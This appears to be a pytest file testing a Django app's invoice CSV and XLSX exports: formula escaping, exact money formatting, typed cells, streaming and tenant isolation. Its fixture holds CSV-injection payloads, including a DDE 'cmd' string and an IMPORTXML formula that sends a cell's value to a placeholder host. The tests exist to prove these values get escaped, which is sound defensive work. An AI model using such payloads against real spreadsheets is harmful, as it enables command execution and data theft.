"""The invoice list's exports: CSV and XLSX hold the same rows, in the list's order, with every
cell that a spreadsheet could run as a formula escaped, amounts exact beside their currency, codes
as labels; and the CSV is streamed from chunked reads, never built whole."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from core.http.listing import list_ordered
from core.money import exponent
from invoices.models import Invoice
from review import invoice_export
from review.invoice_export import (
    EXPORT_HEADERS,
    export_text,
    invoice_csv_lines,
    invoice_csv_response,
    invoice_xlsx_response,
)
from review.invoice_list import INVOICE_LIST_SORTS, InvoiceListFilters, invoice_list, invoice_list_values
from tenants.models import Tenant
from tests.factories import InvoiceFactory, VendorFactory

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = "cmd|' /C calc'!A0"


def _invoices(tenant: Tenant, sort: str = "number", **filters: Any) -> Any:
    queryset = invoice_list(tenant=tenant, filters=InvoiceListFilters(**filters), sort=sort)
    return invoice_list_values(
        tenant=tenant, invoices=list_ordered(queryset=queryset, sorts=INVOICE_LIST_SORTS, sort=sort)
    )


def _csv_rows(tenant: Tenant, **kwargs: Any) -> list[list[str]]:
    response = invoice_csv_response(tenant=tenant, invoices=_invoices(tenant, **kwargs), filename="invoices")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # so spreadsheets read the UTF-8 as such
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx_sheet(tenant: Tenant, **kwargs: Any) -> Any:
    response = invoice_xlsx_response(tenant=tenant, invoices=_invoices(tenant, **kwargs), filename="invoices")
    assert response["Content-Type"] == invoice_export.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="invoices.xlsx"'
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook["Invoices"]


DATES = {EXPORT_HEADERS.index(name) for name in ("Invoice date", "Due date", "Discount if paid by")}
AMOUNT, CURRENCY = EXPORT_HEADERS.index("Amount"), EXPORT_HEADERS.index("Currency")
MONEY = {AMOUNT, EXPORT_HEADERS.index("Early-payment discount")}


def _as_csv_text(values: Iterable[Any]) -> list[str]:
    """An XLSX row as the CSV writes it: a date cell (read back as midnight) as its day, a number
    with its currency's places (1234.6 is 1234.60 EUR), None as ""."""
    cells = list(values)
    text = []
    for column, value in enumerate(cells):
        if column in DATES and isinstance(value, dt.datetime):
            value = value.date()
        elif column in MONEY and isinstance(value, (int, float)):
            value = Decimal(str(value)).quantize(Decimal(1).scaleb(-exponent(cells[CURRENCY])))
        text.append(export_text(value))
    return text


@pytest.fixture
def hostile(tenant: Tenant) -> list[Invoice]:
    """What people type, stored as typed: names, numbers and PO numbers that start like formulas."""
    made = []
    for index, start in enumerate(FORMULA_STARTS):
        vendor = VendorFactory(tenant=tenant, name=f"{start}{HOSTILE} {index}")
        made.append(
            InvoiceFactory(
                vendor=vendor,
                invoice_number=f"{start}SUM(A{index})",
                po_number=f"{start}PO{index}",
                total_amount=123_456 + index,
            )
        )
    made.append(
        InvoiceFactory(
            tenant=tenant,
            vendor=None,
            vendor_name_raw='=IMPORTXML(CONCAT("http://x/",A1))',
            invoice_number="Z-1",
            currency="JPY",
            total_amount=1500,
            status="pending_review",
            review_queue="escalated",
            document_type="credit_note",
        )
    )
    return made


def test_no_cell_of_the_csv_starts_a_formula(tenant: Tenant, hostile: list[Invoice]) -> None:
    rows = _csv_rows(tenant)
    assert rows[0] == list(EXPORT_HEADERS)
    assert len(rows) == 1 + len(hostile)
    dangerous = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous
    by_number = {row[0]: dict(zip(EXPORT_HEADERS, row, strict=True)) for row in rows[1:]}
    assert by_number["'=SUM(A0)"]["Vendor"] == f"'={HOSTILE} 0"
    assert by_number["'@SUM(A3)"]["PO number"] == "'@PO3"
    assert by_number["Z-1"]["Vendor"] == '\'=IMPORTXML(CONCAT("http://x/",A1))'


def test_the_csv_speaks_labels_and_exact_amounts(tenant: Tenant, hostile: list[Invoice]) -> None:
    rows = [dict(zip(EXPORT_HEADERS, row, strict=True)) for row in _csv_rows(tenant, currency="JPY")[1:]]
    assert rows == [
        {
            "Invoice number": "Z-1",
            "Document type": "Credit note",
            "Vendor": '\'=IMPORTXML(CONCAT("http://x/",A1))',
            "PO number": "",
            "Invoice date": "2026-10-10",
            "Due date": "",
            "Status": "Pending review",
            "Review queue": "Escalated",
            "Discrepancies": "",
            "Amount": "1500",
            "Currency": "JPY",
            "Early-payment discount": "0",
            "Discount if paid by": "",
            "Discount available": "",
            "Received (UTC)": rows[0]["Received (UTC)"],
            "Source": "API",
            "Assigned to": "",
            "Recon id": str(hostile[-1].pk),
        }
    ]
    received = dt.datetime.strptime(rows[0]["Received (UTC)"], "%Y-%m-%d %H:%M:%S").replace(tzinfo=dt.UTC)
    assert abs(received - hostile[-1].created_at) < dt.timedelta(seconds=1)
    euro = _csv_rows(tenant, sort="-amount", currency="EUR")[1]
    assert euro[EXPORT_HEADERS.index("Amount")] == "1234.61" and euro[EXPORT_HEADERS.index("Currency")] == "EUR"


def test_the_xlsx_opens_and_has_the_csvs_rows(tenant: Tenant, hostile: list[Invoice]) -> None:
    for sort in ("number", "-amount", "vendor"):
        sheet = _xlsx_sheet(tenant, sort=sort)
        rows = [_as_csv_text(values) for values in sheet.iter_rows(values_only=True)]
        assert rows == _csv_rows(tenant, sort=sort)


def test_xlsx_cells_are_typed_and_none_is_a_formula(tenant: Tenant, hostile: list[Invoice]) -> None:
    sheet = _xlsx_sheet(tenant)
    amount, currency = AMOUNT + 1, CURRENCY + 1
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    for row in range(2, sheet.max_row + 1):
        cell = sheet.cell(row=row, column=amount)
        assert isinstance(cell.value, (int, float, Decimal)) and cell.data_type == "n"
        places = {"EUR": "#,##0.00", "JPY": "#,##0"}[sheet.cell(row=row, column=currency).value]
        assert cell.number_format == places
    date = sheet.cell(row=2, column=EXPORT_HEADERS.index("Invoice date") + 1)
    assert date.value == dt.datetime(2026, 10, 10) and date.is_date


def test_an_amount_past_a_spreadsheets_precision_is_exact_text(tenant: Tenant) -> None:
    InvoiceFactory(vendor=VendorFactory(tenant=tenant), invoice_number="BIG-1", total_amount=9_007_199_254_740_993)
    sheet = _xlsx_sheet(tenant)
    assert sheet.cell(row=2, column=AMOUNT + 1).value == "90071992547409.93"
    assert _csv_rows(tenant)[1][AMOUNT] == "90071992547409.93"


def test_control_characters_xml_cannot_hold_do_not_break_the_xlsx(tenant: Tenant) -> None:
    InvoiceFactory(vendor=VendorFactory(tenant=tenant, name="Tab\x0bVertical\x1bEscape"), invoice_number="CTL-1")
    sheet = _xlsx_sheet(tenant)
    assert sheet.cell(row=2, column=EXPORT_HEADERS.index("Vendor") + 1).value == "Tab\ufffdVertical\ufffdEscape"
    assert _csv_rows(tenant)[1][EXPORT_HEADERS.index("Vendor")] == "Tab\x0bVertical\x1bEscape"


def test_the_csv_is_streamed_from_chunked_reads(
    tenant: Tenant, hostile: list[Invoice], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows come from the database a chunk at a time as the response is read: the header goes out
    before any invoice is read, and a list longer than a chunk arrives whole and in order."""
    monkeypatch.setattr(invoice_export, "CHUNK_SIZE", 2)
    monkeypatch.setattr(invoice_export, "LINES_PER_PIECE", 3)
    lines = invoice_csv_lines(tenant=tenant, invoices=_invoices(tenant, sort="-number"))
    with CaptureQueriesContext(connection) as queries:
        header = next(lines)
    assert header.startswith("\ufeffInvoice number,") and len(queries) == 0
    rest = list(lines)
    assert len(rest) == 3  # 7 lines in pieces of 3
    numbers = [row[0] for row in csv.reader(io.StringIO("".join(rest)))]
    assert numbers == [row[0] for row in _csv_rows(tenant, sort="-number")[1:]]
    assert len(numbers) == len(hostile)


def test_the_export_reads_only_the_tenants_invoices(tenant: Tenant, other_tenant: Tenant) -> None:
    InvoiceFactory(vendor=VendorFactory(tenant=tenant), invoice_number="OURS-1")
    InvoiceFactory(vendor=VendorFactory(tenant=other_tenant), invoice_number="THEIRS-1")
    assert [row[0] for row in _csv_rows(tenant)[1:]] == ["OURS-1"]
    assert [row[0] for row in _csv_rows(other_tenant)[1:]] == ["THEIRS-1"]
